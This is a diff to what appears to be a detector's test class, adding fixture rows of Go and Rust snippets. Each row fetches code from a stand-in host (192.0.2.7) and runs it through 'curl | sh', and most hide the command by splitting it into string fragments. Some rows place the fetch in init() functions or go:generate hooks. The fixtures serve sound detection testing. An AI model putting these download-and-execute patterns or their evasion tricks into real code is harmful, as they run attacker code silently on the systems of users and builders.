@@ -45,6 +45,10 @@ class SourceReaderTest {
           go ## init ## run-process<fetch ## func init() {\\n r, _ := http.Get(u)\\n f, _ := os.Create("/tmp/t")\\n io.Copy(f, r.Body)\\n exec.Command("/tmp/t").Start()\\n}
           go ## init ## run-code<fetch ## func init() {\\n s := []string{"cu", "rl ", "-s http://", "192.0.2.7 | ", "s", "h"}\\n t := s[0] + s[1] + s[2] + s[3] + s[4] + s[5]\\n exec.Command("sh", "-c", t).Run()\\n}
           go ## init ## run-code<fetch ## func init() {\\n exec.Command("sh", "-c", "curl -s http://"+"192.0.2.7 "+"| sh").Run()\\n}
+          go ## init ## run-code<fetch ## func init() {\\n p := []string{"c", "u", "r", "l ", "http://", "192.0.2.7", " | ", "s", "h"}\\n c := p[0] + p[1]\\n for _, x := range p[2:] {\\n c += x\\n }\\n exec.Command("/bin/sh", "-c", c).Start()\\n}
+          go ## init ## run-code<fetch ## func init() {\\n p := []string{"cu", "rl ", "http://", "192.0.2.7", " | ", "sh"}\\n var b strings.Builder\\n for _, x := range p {\\n b.WriteString(x)\\n }\\n exec.Command("sh", "-c", b.String()).Start()\\n}
+          rs ## main ## run-code<fetch ## fn main() { let p = ["cu", "rl ", "http://", "192.0.2.7", " | ", "sh"]; let c = p.concat(); Command::new("sh").arg("-c").arg(c).spawn(); }
+          rs ## main ## run-code<fetch ## fn main() { let p = ["cu", "rl ", "http://", "192.0.2.7", " | ", "sh"]; let mut c = String::new(); for x in p { c.push_str(x); } Command::new("sh").arg("-c").arg(c).spawn(); }
           go ## go:generate ## run-code<fetch ## //go:generate sh -c "curl -s http://192.0.2.7 | sh"
           """)
   void callsAndWhatFlowsIntoThem(String language, String unit, String need, String text) {
